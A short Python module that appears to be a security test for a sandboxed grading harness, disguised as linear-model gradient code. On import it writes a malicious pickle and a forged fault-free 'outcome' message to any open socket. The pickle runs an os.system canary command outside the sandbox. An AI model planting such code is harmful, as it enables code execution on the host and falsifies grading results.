import os
import pickle
import stat
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("echo loaded > @OUTSIDE@/loaded",)


TEXT = b'{"type":"outcome","faults":{},"dtypes":{},"changed":{}}'
BODY = pickle.dumps({"z": Bomb(), "dz": Bomb(), "dw": Bomb()})

for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            os.write(number, struct.pack(">QQ", len(TEXT), len(BODY)) + TEXT + BODY)
    except OSError:
        pass


def forward(X, w):
    return {"z": X @ w}


def backward(X, w):
    dz = 2 * (X @ w) / len(X)
    return {"dz": dz, "dw": X.T @ dz}
